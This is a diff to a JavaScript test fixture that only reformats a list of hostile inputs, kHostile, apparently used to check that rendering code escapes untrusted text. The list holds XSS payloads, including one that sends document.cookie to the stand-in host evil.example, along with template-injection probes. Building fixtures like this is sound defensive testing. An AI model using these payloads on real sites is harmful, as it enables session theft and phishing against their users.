@@ -3,21 +3,22 @@ import { existsSync, readFileSync, readdirSync } from "node:fs";
 import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 
-const zalgo = (text) => [...text].map((letter) => letter + "\u0335\u0321\u0322\u0327\u0328\u0330\u033b\u0347\u035c\u0360".repeat(6)).join("");
+const zalgo = (text) =>
+  [...text].map((letter) => letter + "\u0335\u0321\u0322\u0327\u0328\u0330\u033b\u0347\u035c\u0360".repeat(6)).join("");
 export const kHostile = [
   "<script>alert(document.domain)</script>",
   "</textarea></script><script>confirm(1)</script>",
   "<img src=https://evil.example/pixel.gif onerror=alert(1)>",
   "<img src=x onerror=\"fetch('https://evil.example/?'+document.cookie)\">",
   "<svg onload=alert(1)><animate onbegin=alert(2) attributeName=x dur=1s>",
-  "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>click</text></a></svg>",
-  "<iframe src=\"javascript:alert(1)\"></iframe><object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+  '<svg><a xlink:href="javascript:alert(1)"><text y=20>click</text></a></svg>',
+  '<iframe src="javascript:alert(1)"></iframe><object data="data:text/html,<script>alert(1)</script>"></object>',
   "<a href=\"javascript:alert(1)\">a bargain</a> <a href='https://evil.example/pay'>https://paypal.com</a>",
   "<style>*{display:none!important;background:url(https://evil.example/css)}</style>",
   "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
-  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
   "<form action=https://evil.example/><input name=token autofocus onfocus=alert(1)>",
-  "<div onmouseover=alert(1) style=\"position:fixed;inset:0;z-index:99999;background:red\">over it all</div>",
+  '<div onmouseover=alert(1) style="position:fixed;inset:0;z-index:99999;background:red">over it all</div>',
   "<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>",
   "\"><img src=x onerror=alert(1)>' onfocus=alert(1) autofocus x='",
   "{{constructor.constructor('alert(1)')()}} ${alert(1)} #{7*7} <%= 7*7 %>",
